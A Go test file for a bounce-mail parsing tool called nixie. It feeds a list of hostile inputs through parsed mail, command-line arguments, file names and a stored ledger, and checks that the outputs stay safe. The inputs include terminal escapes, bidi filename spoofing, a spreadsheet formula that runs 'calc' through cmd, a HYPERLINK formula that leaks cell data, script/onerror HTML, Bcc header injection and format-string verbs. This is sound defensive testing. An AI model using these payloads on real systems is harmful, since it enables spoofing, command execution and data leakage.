package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"nixie/cmd/nixie/internal/export"
)

// hostile is what strangers put into mail to harm who reads the output.
var hostile = map[string]string{
	"terminal escapes":       "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://example.org\x1b\\\x1bP\x9b31m\u009b31m\x08\x7f",
	"bidirectional controls": "\u202egpj.exe\u202c \u2066x\u2069\u200f\u061c",
	"what cannot be seen":    "a\u200b\u2028\u2029\ufeff\u00ad\U000e0041\U000e0001",
	"NUL":                    "a\x00b\x00",
	"no UTF-8":               "\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80\xc3",
	"formula":                `=HYPERLINK("http://example.org/?"&A1,"x")`,
	"formula after a comma":  `x,=1+1,"=1+1`,
	"formula of semicolons":  `x;=1+1; +1;@SUM(1)`,
	"formula with a sign":    "+1+1@example.org",
	"command":                "-2+3+cmd|' /C calc'!A0",
	"full-width formula":     "＝1+1",
	"HTML":                   `<script>alert(1)</script><img src=x onerror=alert(1)>&amp;<!--]]>`,
	"quotes":                 `"'` + "`" + `\",'';--`,
	"long":                   strings.Repeat("a", 70_000) + "@" + strings.Repeat("b.", 200) + "example.org",
	"quoted local part":      `"a\"b <c@example.org> d"@example.org`,
	"line ends":              "a@example.org\r\n Bcc: b@example.org\n c\r d\u0085e\x0bf\x0cg",
	"verbs":                  "%s%d%n%!s(int=1)%[1]*v%%",
	"homographs":             "раураl@exаmple.org", // Cyrillic
	"combining marks":        "a" + strings.Repeat("\u0301", 500) + "@example.org",
}

// hostileMail returns messages with s in each place that is shown.
func hostileMail(s string) map[string]string {
	report := strings.ReplaceAll(`Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.example.net>
Subject: Undelivered Mail {}
Date: Mon, 6 Jan 2025 10:00:00 +0100 ({})
Message-ID: <{}>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

Your message could not be delivered. {}

--b
Content-Type: message/delivery-status

Reporting-MTA: dns; {}
Original-Envelope-Id: {}
Arrival-Date: {}

Original-Recipient: rfc822; {}
Final-Recipient: rfc822; {}
Action: {}
Status: {}
Remote-MTA: dns; {}
Diagnostic-Code: smtp; 550 5.1.1 User unknown {} (in reply to {})
Last-Attempt-Date: {}

Final-Recipient: rfc822; alice@example.com
Action: failed
Status: 5.1.1
Diagnostic-Code: {}; {}

--b
Content-Type: text/rfc822-headers

From: {}
To: {}
Subject: {}
List-ID: {}
Feedback-ID: {}
Message-ID: {}

--b--
`, "{}", s)
	prose := strings.ReplaceAll(`Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@{}>
Subject: Undelivered Mail Returned to Sender
X-Failed-Recipients: {}, bob@example.org

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  alice@example.com
    host mx.example.com [192.0.2.1] {}
    550 5.1.1 User unknown {}
  {}
    550 {}
`, "{}", s)
	away := strings.ReplaceAll("From: {}\nSubject: Out of office {}\nAuto-Submitted: auto-replied\n\nI am away. {}\n", "{}", s)
	return map[string]string{"report": report, "prose": prose, "away": away, "nothing": s}
}

func TestHostileMail(t *testing.T) {
	dir := t.TempDir()
	files := 0
	for name, s := range hostile {
		for form, msg := range hostileMail(s) {
			files++
			require.NoError(t, os.WriteFile(filepath.Join(dir, name+" in "+form+".eml"), []byte(msg), 0o644))
		}
	}
	parse := func(args ...string) string {
		var out, errs bytes.Buffer
		require.Zero(t, run(append([]string{"parse", dir}, args...), nil, &out, &errs), errs.String())
		harmless(t, out.String())
		return out.String()
	}

	text := parse("--format", "json")
	assert.Equal(t, files, strings.Count(text, "\n"))
	recipients, rows := 0, 1 // of the formats, and of a table with its head
	for line := range strings.Lines(text) {
		var message struct{ Recipients []json.RawMessage }
		require.NoError(t, json.Unmarshal([]byte(line), &message), line)
		recipients += len(message.Recipients)
		rows += max(len(message.Recipients), 1)
	}
	assert.Greater(t, recipients, files/2)
	for _, tag := range []string{"</", "<!", "<script"} {
		assert.NotContains(t, text, tag, "in a script of a page")
	}

	text = parse("--format", "sisimai")
	assert.Equal(t, recipients, strings.Count(text, "\n"))
	for line := range strings.Lines(text) {
		assert.True(t, json.Valid([]byte(line)), line)
	}

	noFormula(t, parse("--format", "csv"), rows)
	noFormula(t, parse("--format", "csv", "--why"), rows)

	assert.Equal(t, rows, strings.Count(parse("--format", "table"), "\n"))
	for row := range strings.Lines(parse("--format", "table", "--why")) {
		if !strings.HasPrefix(row, "    ") { // what is below a row is indented, so no mail can add a row
			rows--
		}
	}
	assert.Zero(t, rows, "rows of the table")

	noFormula(t, parse("--unclassified", "--format", "csv"), -1)
	parse("--unclassified", "--format", "table")
	for line := range strings.Lines(parse("--unclassified", "--format", "json")) {
		assert.True(t, json.Valid([]byte(line)), line)
	}
}

func TestHostileArguments(t *testing.T) {
	for name, s := range hostile {
		t.Run(name, func(t *testing.T) {
			for _, args := range [][]string{
				{"explain", "--", s}, {"explain", "--host", s, "--", "550 5.1.1 " + s}, {"explain", "--host=" + s, "--", "5.1.1"},
				{"rules", "--", s}, {"rules", "--check", s}, {"parse", "--rules", s, "-"}, {"parse", "--format", s, "-"}, {"parse", "--", s}, {s}, {"--" + s},
			} {
				var out, errs bytes.Buffer
				run(args, strings.NewReader(""), &out, &errs)
				harmless(t, out.String())
				harmless(t, errs.String())
			}
		})
	}
}

// The name of a file is a stranger's too, and so is a file of rules.
func TestHostileFiles(t *testing.T) {
	for name, s := range hostile {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			file := filepath.Join(dir, strings.NewReplacer("/", "_", "\x00", "_").Replace(s)+".eml")
			if err := os.WriteFile(file, []byte(hostileMail("x")["report"]), 0o644); err != nil {
				t.Skip(err) // no such name on this system
			}
			for _, args := range [][]string{
				{"--format", "json"}, {"--format", "csv"}, {"--format", "sisimai"}, {"--format", "table"}, {"--format", "table", "--why"}, {"--unclassified"},
			} {
				var out, errs bytes.Buffer
				require.Zero(t, run(append([]string{"parse", dir}, args...), nil, &out, &errs), errs.String())
				harmless(t, out.String())
			}
			rules := filepath.Join(dir, "rules")
			require.NoError(t, os.WriteFile(rules, fmt.Appendf(nil, "Rule: %s\nText: %[1]s\nReason: %[1]s\n", s), 0o644))
			var out, errs bytes.Buffer
			run([]string{"rules", "--check", rules}, nil, &out, &errs)
			harmless(t, out.String())
			harmless(t, errs.String())
		})
	}
}

// harmless demands that text has nothing that a terminal would act on, nor
// what fmt writes for verbs in a format.
func harmless(t *testing.T, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		assert.True(t, utf8.ValidString(line), "no UTF-8: %.300q", line)
		i := strings.IndexFunc(line, func(r rune) bool { return !unicode.IsGraphic(r) })
		assert.Negative(t, i, "a character that is not to be seen: %.300q", line[max(i, 0):])
		for _, mistake := range []string{"%!d(", "%!n(", "%!s(MISSING", "%!v(", "(BADINDEX)", "%!(EXTRA"} {
			assert.NotContains(t, line, mistake)
		}
	}
}

// noFormula demands that a spreadsheet reads so many rows, if that is not
// negative, and no cell as a formula, also one that parts cells at semicolons.
func noFormula(t *testing.T, table string, rows int) {
	t.Helper()
	for _, comma := range []rune{',', ';', '\t'} {
		r := csv.NewReader(strings.NewReader(table))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = comma, -1, comma != ','
		all, err := r.ReadAll()
		require.NoError(t, err)
		if rows >= 0 && comma == ',' {
			assert.Len(t, all, rows)
		}
		for _, row := range all {
			for _, cell := range row {
				sign, _ := utf8.DecodeRuneInString(strings.TrimSpace(cell))
				assert.NotContains(t, "=+-@＝＋－＠\t\r", string(sign), "%q parted at %q", cell, comma)
			}
		}
	}
}

// What was recorded of hostile mail is as harmless in all that the ledger is
// asked for.
func TestHostileLedger(t *testing.T) {
	dir := t.TempDir()
	box := filepath.Join(dir, "Maildir")
	for _, sub := range []string{"cur", "new", "tmp"} {
		require.NoError(t, os.MkdirAll(filepath.Join(box, sub), 0o755))
	}
	files := 0
	for _, s := range hostile {
		for _, msg := range hostileMail(s) {
			files++
			require.NoError(t, os.WriteFile(filepath.Join(box, "new", fmt.Sprintf("%d.host", files)), []byte(msg), 0o644))
		}
	}
	db := "sqlite:" + filepath.Join(dir, "ledger.db")
	ask := func(args ...string) string {
		t.Helper()
		var out, errs bytes.Buffer
		require.Zero(t, run(append([]string{args[0], "--ledger", db}, args[1:]...), nil, &out, &errs), errs.String())
		harmless(t, out.String())
		harmless(t, errs.String())
		return out.String()
	}
	ask("ingest", "maildir:"+box)

	var addresses []string
	for line := range strings.Lines(ask("list", "--all", "--format", "json")) {
		var state struct{ Address string }
		require.NoError(t, json.Unmarshal([]byte(line), &state), line)
		addresses = append(addresses, state.Address)
	}
	assert.Greater(t, len(addresses), 5)
	assert.Equal(t, len(addresses)+1, strings.Count(ask("list", "--all", "--format", "table"), "\n"))
	noFormula(t, ask("list", "--all", "--format", "csv"), len(addresses)+1)
	for _, format := range export.Formats() {
		ask("list", "--format", format)
	}
	for _, address := range addresses {
		ask("address", "--format", "table", "--", address)
		text := ask("address", "--format", "json", "--", address)
		assert.True(t, json.Valid([]byte(text)), text)
		for _, tag := range []string{"</", "<!", "<script"} {
			assert.NotContains(t, text, tag, "in a script of a page")
		}
	}
	for _, format := range []string{"table", "json"} {
		ask("incidents", "--format", format)
		ask("backtest", "--format", format, "--policy", "mailman")
	}
}
